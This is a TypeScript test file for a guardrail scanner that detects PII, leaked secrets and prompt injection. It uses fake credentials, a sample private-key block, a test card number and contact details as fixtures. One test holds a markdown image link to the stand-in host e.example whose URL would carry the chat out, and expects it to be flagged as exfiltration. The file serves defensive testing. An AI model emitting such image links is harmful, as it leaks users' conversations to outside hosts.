import { readConfig, type GuardrailConfig } from '@vitalgate/contract';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { buildGuardrail } from './build.ts';
import { prefixes } from './detect/secret-rules.ts';
import { marks, siftText } from './marks.ts';
import { Scanner } from './scanner.ts';
import { Search } from './search.ts';
import { DIGITS, ESCAPED, TOKEN } from './sieve.ts';

const read = readConfig({
  version: 1,
  guardrails: [{ name: 'g', detect: ['pii', 'secrets'], action: 'flag' }],
});
if (!('config' in read)) throw new TypeError(JSON.stringify(read.mistakes));
const search = new Search(read.config.guardrails.map((one) => buildGuardrail(one)));
const images = new Search([
  buildGuardrail({
    ...(read.config.guardrails[0] as GuardrailConfig),
    detect: [{ injection: { threshold: 3 } }],
  }),
]);

/** As if the sieve had seen everything. */
const ALL = 0xffff & ~ESCAPED;

const character = (characters: string) => fc.constantFrom(...characters.split(''));
const letters = character('abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789');
const some = (one: fc.Arbitrary<string>, minLength: number, maxLength: number) =>
  fc.array(one, { minLength, maxLength }).map((all) => all.join(''));

const token = fc
  .tuple(fc.constantFrom(...prefixes), some(letters, 8, 80))
  .map(([{ prefix }, rest]) => prefix + rest);
const between = fc.constantFrom(' ', '\n', '\t', '"', '=', '_', 'x', '-', '.', '/', ': ', '');
const words = fc.constantFrom(
  'about the path of a robot',
  'datadog ',
  'password: hunter2Zq!9',
  '-----BEGIN PRIVATE KEY-----\nMIIEpAIB\n-----END PRIVATE KEY-----',
  '4111 1111 1111 1111',
  '+49 30 901820',
  'bob@example.com',
  '8f14e45fceea167a5a36dedd4bea2543',
);
const text = fc
  .array(fc.tuple(fc.oneof(token, words), between), { maxLength: 8 })
  .map((parts) => parts.flat().join(''));

const found = (written: string, seen?: number): string[] =>
  new Scanner(search, 'text')
    .push(written, true, seen)
    .hits.map(({ kind, start, end }) => `${kind} ${start} ${end}`);

describe('the sieve', () => {
  it('never misses what is there', () => {
    let finds = 0;
    fc.assert(
      fc.property(text, (written) => {
        const all = found(written, ALL);
        finds += all.length;
        expect(found(written)).toEqual(all);
        // As it stands in a body.
        const json = Buffer.from(JSON.stringify(written));
        expect(found(written, marks.sift(json, 0, json.length))).toEqual(all);
      }),
      { numRuns: 1000 },
    );
    expect(finds).toBeGreaterThan(500);
  });

  it('sees an image whose address would carry off what was said', () => {
    const { hits } = new Scanner(images, 'text').push('![x](https://e.example/?q=${chat})', true);
    // Its mark had two letters, and no word of fewer than three is ever seen.
    expect(hits.map(({ kind }) => kind)).toEqual(['injection-exfiltration']);
  });

  it.each([
    ['my card says ABCPE1234F.', DIGITS],
    ['my card says abcpe1234f', DIGITS],
    ['part ABC1234F', 0],
    ['part ABCPE12345', 0],
    ['ABCPE1234', 0],
  ])('sees whether %j has digits enough', (written, expected) => {
    expect(siftText(written) & DIGITS).toBe(expected);
  });

  it.each([
    ['a word that begins as a token does', 'the path of a robot is about social api-ready keys', 0],
    ['a word that holds the beginning of a token', `xghp_${'a1B2'.repeat(9)}`, 0],
    ['the beginning of a token in another case', `AKIA${'7QWE'.repeat(4)}`.toLowerCase(), 0],
    ['a token', `ghp_${'a1B2'.repeat(9)}`, TOKEN],
    ['a token behind a line that ends', JSON.stringify(`is\nghp_${'a1B2'.repeat(9)}`), TOKEN],
  ])('of %s', (_, written, expected) => {
    expect(siftText(written) & TOKEN).toBe(expected);
  });
});
